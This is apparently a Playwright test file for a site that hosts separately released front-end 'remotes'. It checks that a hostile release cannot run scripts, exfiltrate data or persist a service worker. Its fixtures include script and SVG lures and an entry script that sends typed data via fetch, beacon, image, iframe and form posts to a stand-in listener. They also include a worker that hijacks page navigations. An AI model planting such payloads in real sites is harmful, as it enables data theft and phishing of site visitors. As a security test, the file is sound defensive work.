import type { Page } from '@playwright/test';
import { expect, browserTest as test } from '../../fixtures/small-site.ts';
import type { SmallSite } from '../../harness/small-site.ts';
import { startCarelessServer, startListener } from './servers.ts';

/*
 * A remote whose release is live: somebody approved it. All live remotes share one origin, so it can
 * read what is typed on any page. What it cannot do: stay after its rollback, bring code that no
 * release has, or call a server of its own.
 */

/** Marks the origin's storage, which every page of the site can read. */
const MARK = `localStorage.setItem('evil', location.href)`;

/** Its script and its address reach a server of its own. */
const lure = `<script>${MARK}; fetch('LISTENER/from-script')</script><img src="LISTENER/from-image">`;

const opened = {
  'evil.html': `<!doctype html><title>evil</title>${lure}`,
  'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg">${lure}</svg>`,
};

const WORKER = `addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return;
  const headers = { 'content-type': 'text/html' };
  event.respondWith(new Response('<h1>Pay somebody else</h1>', { headers }));
});
`;

/** The remote's own script, as the shell runs it: ways to bring other code, and to call out. */
const ENTRY = `
const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
const inBlob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/html' }));
globalThis.ways = {
  'script-src-elem': () => add('script', { textContent: ${JSON.stringify(MARK)} }),
  'script-src-elem ': (listener) => add('script', { src: listener + '/foreign.js' }),
  'script-src-attr': () => document.body.setAttribute('onclick', ${JSON.stringify(MARK)}),
  'script-src': () => { try { new Function(${JSON.stringify(MARK)})(); } catch {} },
  'connect-src': (listener) => fetch(listener + '/fetched', { mode: 'no-cors' }).catch(() => {}),
  'connect-src ': (listener) => navigator.sendBeacon(listener + '/beacon', 'typed'),
  'img-src': (listener) => add('img', { src: listener + '/image?typed' }),
  'frame-src': (listener) => add('iframe', { src: listener + '/frame?typed' }),
  'frame-src ': () => add('iframe', { src: inBlob('<script>' + ${JSON.stringify(MARK)} + '</script>') }),
  'form-action': (listener) => {
    const form = document.createElement('form');
    Object.assign(form, { action: listener + '/form', method: 'post' });
    document.body.append(form);
    form.submit();
  },
};`;

const LOADER = `
const { remotes } = JSON.parse(document.getElementById('composition').textContent);
const { entry, integrity } = remotes.pricing;
document.head.append(Object.assign(document.createElement('script'), { src: entry, integrity }));`;

test.use({
  smallSiteOptions: {
    prepare: async (fixtures) => {
      await fixtures.releaseAll();
      await fixtures.release('shell', {
        version: '1.1.0',
        files: { 'web/static/client.js': LOADER },
      });
    },
  },
});

let listener: Awaited<ReturnType<typeof startListener>>;
test.beforeAll(async () => {
  listener = await startListener();
});
test.afterAll(() => listener.stop());

let released: Promise<string> | undefined;

/** Puts a release of pricing live, once, that has all of this. */
function releaseFiles(site: SmallSite): Promise<string> {
  released ??= (async () => {
    const files = Object.entries({ ...opened, 'offers.js': WORKER }).map(([name, text]) => [
      `web/public/${name}`,
      text.replaceAll('LISTENER', listener.address),
    ]);
    const all = { ...Object.fromEntries(files), 'web/entry.js': ENTRY };
    const id = await site.publish('pricing', { version: '1.1.0', files: all });
    await site.mustRun(['promote', 'pricing']);
    return id;
  })();
  return released;
}

async function markAt(page: Page, address: string) {
  await page.goto(address);
  return page.evaluate(() => localStorage.getItem('evil'));
}

test('has a file of its release opened, or frames it on a page: it runs no script, and calls nobody', async ({
  page,
  smallSite,
  expectProblems,
}) => {
  // The browser reports each script that it blocks.
  expectProblems(/sandboxed|Content Security Policy|^no answer: .* csp$/);
  const release = await releaseFiles(smallSite);
  const addresses = Object.keys(opened).flatMap((name) => [
    `/${name}`,
    `/_site/releases/pricing/${release}/public/${name}`,
  ]);
  for (const address of addresses) {
    await page.goto(smallSite.address + address);
    expect(await markAt(page, `${smallSite.address}/`), address).toBeNull();
    await page.evaluate(async (src) => {
      const frame = document.createElement('iframe');
      const load = new Promise((resolve) => frame.addEventListener('load', resolve));
      frame.src = src;
      document.body.append(frame);
      await load;
    }, address);
    expect(await markAt(page, `${smallSite.address}/pricing`), `${address} in a frame`).toBeNull();
  }
  expect(listener.heard).toEqual([]);
});

test('brings scripts that no release has, and calls a server of its own: each is stopped by the page’s policy', async ({
  page,
  smallSite,
  expectProblems,
}) => {
  expectProblems(/Content Security Policy|ERR_BLOCKED_BY_CSP|no answer/);
  await releaseFiles(smallSite);
  await page.goto(`${smallSite.address}/pricing`);
  const names = await page
    .waitForFunction(() => 'ways' in globalThis && Object.keys(Reflect.get(globalThis, 'ways')))
    .then((handle) => handle.jsonValue());
  expect(names).toHaveLength(10);
  const stopped: string[] = [];
  await page.exposeFunction('reportStopped', (directive: string) => {
    stopped.push(directive);
  });
  await page.evaluate(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      Reflect.get(globalThis, 'reportStopped')(effectiveDirective),
    ),
  );
  for (const [position, name] of (names || []).entries()) {
    await page.evaluate(
      // Later: what the driver of the browser runs itself may evaluate texts.
      ([way, address]) => void setTimeout(() => Reflect.get(globalThis, 'ways')[way](address)),
      [name, listener.address] as const,
    );
    await expect.poll(() => stopped[position], name).toBe(name.trim());
  }
  await page.mouse.click(5, 5);
  expect(await markAt(page, `${smallSite.address}/`)).toBeNull();
  expect(listener.heard).toEqual([]);
});

test('registers a service worker, which would outlive its rollback: no page of the site can', async ({
  page,
  smallSite,
  expectProblems,
}) => {
  expectProblems(/worker-src|ServiceWorker|service worker/i);
  await releaseFiles(smallSite);
  await page.goto(`${smallSite.address}/pricing`);
  const register = () =>
    navigator.serviceWorker.register('/offers.js').then(
      () => 'registered',
      (error: unknown) => String(error),
    );
  expect(await page.evaluate(register)).toMatch(/SecurityError|violates/);
});

test('has a service worker in a browser, by a server in front that keeps no policy: after the rollback it removes itself', async ({
  page,
  smallSite,
}) => {
  await releaseFiles(smallSite);
  const careless = await startCarelessServer(smallSite.address);
  try {
    await page.goto(`${careless.address}/pricing`);
    await page.evaluate(async () => {
      await navigator.serviceWorker.register('/offers.js');
      await navigator.serviceWorker.ready;
      await caches.open('offers');
    });
    await page.goto(`${careless.address}/`);
    await expect(page.getByRole('heading')).toHaveText('Pay somebody else');

    await smallSite.mustRun(['rollback', 'pricing']);
    careless.passOn();
    await page.goto(`${careless.address}/pricing`);
    await expect(page.getByRole('heading')).toHaveText('Pricing');
    const left = () =>
      page.evaluate(async () => [
        (await navigator.serviceWorker.getRegistrations()).length,
        (await caches.keys()).length,
      ]);
    await expect.poll(left).toEqual([0, 0]);
  } finally {
    await careless.stop();
  }
});
